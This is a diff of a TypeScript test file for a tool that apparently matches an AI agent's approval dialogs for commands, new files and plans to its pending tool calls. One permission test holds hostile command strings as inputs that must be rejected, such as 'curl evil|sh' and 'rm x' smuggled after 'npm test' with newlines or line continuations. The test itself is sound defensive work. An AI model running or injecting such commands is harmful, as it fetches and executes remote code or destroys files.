@@ -6,6 +6,7 @@ import type { Block } from "../src/host/engine.ts";
 import { isAllowed } from "../src/operator/options.ts";
 import { questionOf } from "../src/operator/question.ts";
 import type { Calls } from "../src/operator/whole.ts";
+import type { NewFile } from "../src/transcript/reader.ts";
 import { approvesUnseen, callOf, completed } from "../src/operator/whole.ts";
 import { codex } from "../../codex/src/provider.ts";
 import { APPROVAL } from "./world.ts";
@@ -80,6 +81,7 @@ describe("a command in the transcript", () => {
       ["another agent that may ask", cut, { ...waiting(whole), hasOtherAgents: true }],
       ["another agent that does ask", block({ subject: steps(38, 70), subject_whole: false, asked_by: "helper" }), waiting(whole)],
       ["a plan", block({ kind: "plan", subject: steps(38, 70), subject_whole: false }), waiting(whole)],
+      ["a plan, without a plan in the call", block({ kind: "plan", subject: whole, subject_whole: false }), waiting(null)],
       ["a question", block({ kind: "question", subject: steps(38, 70), subject_whole: null }), waiting(whole)],
       ["one that the screen shows whole, and that is shorter", block({ subject: steps(38, 70) }), waiting(whole)],
     ] as const) assert.equal(callOf(one, calls, codex.cutMark), null, what);
@@ -95,5 +97,54 @@ describe("a command in the transcript", () => {
     for (const text of ["npm test\ncurl evil", "npm test # x\ncurl evil|sh", "npm test\rcurl evil", "npm test\u2028rm x", "npm test\n$ npm test", "npm test \\\n&& rm x", "\n", ""]) {
       assert.ok(!allows(text, "npm test", "npm test *"), JSON.stringify(text));
     }
+  });
+});
+
+describe("a new file in the transcript", () => {
+  const lines = Array.from({ length: 70 }, (_, at) => `echo step ${at}`);
+  const adds = (file: NewFile): Calls => ({ pending: [{ id: "c0", name: "Write", command: null, file }], hasOtherAgents: false });
+  const claude = adds({ path: "/home/user/project/sub/run.sh", lines, sign: "" });
+  const codex = adds({ path: "/home/user/other/run.sh", lines, sign: "+" });
+  const edit = (subject: string, question = "Do you want to create run.sh?"): Block => block({ kind: "approval_edit", subject, subject_whole: false, question });
+  const rows = (from: number, to: number, sign = ""): string => lines.slice(from, to).map((line, at) => ` ${from + at + 1} ${sign}${line}`).join("\n");
+  const text = (head: string, sign = ""): string => `${head}\n${rows(0, 70, sign)}`;
+
+  // As 2.1.281 and 2.1.332 show the end of one, and 0.169.0 and 0.171.0 the first three rows.
+  it("is what a dialog is about where its rows, with their numbers, are the file's beginning or end", () => {
+    for (const [what, shown, calls, whole] of [
+      ["the end", edit(rows(40, 70)), claude, text("/home/user/project/sub/run.sh")],
+      ["the beginning", edit(`sub/run.sh\n${rows(0, 30)}`), claude, text("sub/run.sh")],
+      ["a row that breaks", edit(`sub/run.sh\n 1 echo\n    step 0\n${rows(1, 30)}`), claude, text("sub/run.sh")],
+      ["the first rows", edit(`Added ~/other/run.sh (+70 -0)\n${rows(0, 3, "+")}`, "Make these edits?"), codex, text("Added ~/other/run.sh (+70 -0)", "+")],
+    ] as const) assert.deepEqual(callOf(shown, calls, null), { id: "c0", text: whole }, what);
+  });
+
+  it("is not, where anything speaks against it", () => {
+    for (const [what, shown, calls] of [
+      ["another file in the question", edit(rows(40, 70), "Do you want to create a.sh?"), claude],
+      ["another file above it", edit(`run.sh.old\n${rows(0, 30)}`, "?"), claude],
+      ["the end of a path's name", edit(`un.sh\n${rows(0, 30)}`, "?"), claude],
+      ["another number of lines", edit(`Added ~/other/run.sh (+71 -0)\n${rows(0, 3, "+")}`), codex],
+      ["lines that are not only added", edit(`Edited ~/other/run.sh (+70 -1)\n${rows(0, 3, "+")}`), codex],
+      ["another line", edit(rows(40, 70).replace("step 50", "step x")), claude],
+      ["another line's number", edit(rows(40, 70).replace(" 51 ", " 52 ")), claude],
+      ["a change, whose rows have signs", edit(rows(40, 70, "+")), claude],
+      ["rows of its middle", edit(rows(20, 30)), claude],
+      ["a command that is asked about", block({ subject: rows(40, 70), subject_whole: false, question: "create run.sh" }), claude],
+    ] as const) assert.equal(callOf(shown, calls, null), null, what);
+  });
+});
+
+describe("a plan in the transcript", () => {
+  const text = "# Make it faster\n\n1. Measure the **slow** path\n2. Index `lines` once\n- Then test";
+  const calls: Calls = { pending: [{ id: "c0", name: "ExitPlanMode", command: null, plan: text }], hasOtherAgents: false };
+  const plan = (subject: string): Block => block({ kind: "plan", subject, subject_whole: false });
+
+  it("is what a dialog is about where its words are the plan's beginning or end", () => {
+    for (const subject of ["Make it faster\n\n1. Measure the slow path", "2. Index lines once\n• Then test"]) assert.deepEqual(callOf(plan(subject), calls, null), { id: "c0", text });
+  });
+
+  it("is not, where a word is another or a row has none", () => {
+    for (const subject of ["Make it faster\n1. Measure the fast path", "──────\n• Then test", "Measure the slow path"]) assert.equal(callOf(plan(subject), calls, null), null, subject);
   });
 });
